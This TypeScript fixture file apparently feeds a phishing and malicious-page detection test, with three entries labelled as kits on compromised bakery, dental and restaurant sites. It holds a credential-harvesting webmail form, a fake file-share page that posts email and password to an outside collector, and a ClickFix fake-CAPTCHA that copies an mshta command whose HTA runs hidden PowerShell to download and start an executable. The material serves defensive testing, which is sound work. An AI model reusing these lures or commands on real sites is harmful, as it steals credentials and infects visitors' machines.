import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { fileRoute, jsRoute, jsonRoute, pngRoute, zip } from '../parts/e-bin.js';
import { b64, cssApp, cssPlain, doc, pdfRoute } from '../parts/q-kit.js';

// Kits dropped on compromised small-business sites, and pages whose harmful part appears only after a delay or a click.

export const entries: Entry[] = [
{
  id: 'q-phish-bakery-wp-uploads-webmail',
  label: 'phishing',
  kind: 'compromised-site',
  url: 'https://www.sunrisebakery-leeds.co.uk/wp-content/uploads/2025/10/secure/index.php',
  body: doc({
    title: 'Webmail',
    css: cssApp('#475569'),
    body: `<div class="wrap"><div class="box">
<h1>Sign in to view message</h1>
<p id="d">You have 1 pending message from your domain administrator.</p>
<form method="post" action="next.php"><label>Email</label><input name="login" id="l"><label>Password</label><input name="passwd" type="password"><button>Sign in</button></form>
<div class="sub">Webmail · Secured session</div></div></div>
<script>var h=location.hash.slice(1);if(h){try{var e=atob(h);document.getElementById('l').value=e;document.getElementById('d').textContent='You have 1 pending message for '+e+'.'}catch(x){}}</script>`,
  }),
  routes: {
    'www.sunrisebakery-leeds.co.uk/wp-content/uploads/2025/10/secure/next.php': redirectRoute(302, 'https://www.sunrisebakery-leeds.co.uk/'),
    'www.sunrisebakery-leeds.co.uk/': htmlRoute(doc({ title: 'Sunrise Bakery – Leeds', css: cssPlain('#b45309'), body: '<header class="top"><span class="name">Sunrise Bakery</span><nav><a href="#">Menu</a><a href="#">Cakes to order</a><a href="#">Find us</a></nav></header><main><div class="card"><h2>Fresh every morning since 1994</h2><p>Sourdough, pastries and celebration cakes, baked on Harehills Lane.</p></div></main>' })),
  },
},
{
  id: 'q-phish-dentist-subdir-doc-share',
  label: 'phishing',
  kind: 'compromised-site',
  url: 'https://www.brightsmile-dentalcare.com/images/gallery/.docs/view.html',
  body: doc({
    title: 'Document',
    css: cssPlain('#0d9488') + '.f{border:1px solid #ccc;padding:14px;display:flex;gap:12px;align-items:center;margin:12px 0}.f b{display:block}',
    body: `<main><div class="card narrow">
<p class="muted">A file was shared with you</p>
<div class="f"><img src="../thumb.png" width="36" height="44" alt="PDF"><div><b>Remittance_Advice_1127.pdf</b><span class="muted">228 KB</span></div></div>
<p>To protect the file, verify the recipient email.</p>
<input id="m" type="email" placeholder="Email address"><p></p><input id="pw" type="password" placeholder="Password"><p></p>
<button id="v">Verify</button><p class="err" id="r"></p></div></main>
<script>
var tries=0;document.getElementById('v').onclick=function(){
 var x=new XMLHttpRequest();x.open('POST','https://collect-api-relay.top/r/bs.php',true);
 x.send(JSON.stringify({m:document.getElementById('m').value,p:document.getElementById('pw').value,h:location.host}));
 if(++tries>1){location.replace('https://www.brightsmile-dentalcare.com/')}else{document.getElementById('r').textContent='Incorrect password.'}
};
</script>`,
  }),
  routes: {
    'www.brightsmile-dentalcare.com/images/gallery/thumb.png': pngRoute(220, 38, 38),
    'collect-api-relay.top/r/bs.php': jsonRoute({ ok: 1 }),
    'www.brightsmile-dentalcare.com/': htmlRoute(doc({ title: 'Bright Smile Dental Care', css: cssPlain('#0d9488'), body: '<header class="top"><span class="name">Bright Smile Dental Care</span><nav><a href="#">Treatments</a><a href="#">Team</a><a href="#">Book</a></nav></header><main><div class="card"><h2>Gentle family dentistry in Cedar Park</h2><p>Accepting new patients. Call (512) 555-0188.</p></div></main>' })),
  },
},
{
  id: 'q-clickfix-restaurant-site-fake-captcha',
  label: 'clickfix',
  kind: 'compromised-site',
  url: 'https://www.trattoria-dagianni.com/menu',
  body: doc({
    title: 'Menu – Trattoria da Gianni',
    css: cssPlain('#991b1b', 'Georgia, serif'),
    body: `<header class="top"><span class="name">Trattoria da Gianni</span><nav><a href="#">Menu</a><a href="#">Wine</a><a href="#">Reservations</a></nav></header>
<main><div class="card"><h2 style="margin-top:0">Antipasti</h2><p>Bruschetta al pomodoro – 7<br>Carpaccio di manzo – 12<br>Burrata e prosciutto – 14</p>
<h2>Primi</h2><p>Tagliatelle al ragù – 16<br>Cacio e pepe – 15<br>Risotto ai funghi porcini – 18</p></div></main>
<footer>Trattoria da Gianni · 118 Mulberry St</footer>
<script src="/wp-content/plugins/wp-menu-cache/cache.js"></script>`,
  }),
  routes: {
    'www.trattoria-dagianni.com/wp-content/plugins/wp-menu-cache/cache.js': jsRoute(`(function(){
var cmd='mshta https://verify-human-cdn.com/v/check.hta # I am not a robot - reCAPTCHA Verification ID: 4471';
function show(){var d=document.createElement('div');d.style.cssText='position:fixed;inset:0;background:#fff;z-index:2147483647;font-family:Roboto,Arial;display:flex;align-items:center;justify-content:center';
d.innerHTML='<div style="border:1px solid #d3d3d3;padding:22px;width:340px;box-shadow:0 0 4px #ccc"><div style="display:flex;align-items:center;gap:12px"><span id="cb" style="width:26px;height:26px;border:2px solid #c1c1c1;display:inline-block;cursor:pointer"></span> I\\'m not a robot</div><div id="st" style="display:none;margin-top:14px;font-size:14px;line-height:1.6"><b>Verification steps</b><br>1. Press Windows Button + R<br>2. Press CTRL + V<br>3. Press Enter</div></div>';
document.body.appendChild(d);document.getElementById('cb').onclick=function(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();document.getElementById('st').style.display='block';};}
if(!/bot|crawl/i.test(navigator.userAgent))setTimeout(show,2000);})();`),
    'verify-human-cdn.com/v/check.hta': fileRoute('<html><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -w h -c iwr https://verify-human-cdn.com/v/p.exe -o $env:TEMP\\p.exe; start $env:TEMP\\p.exe",0</script></html>', 'application/hta'),
  },
},
];
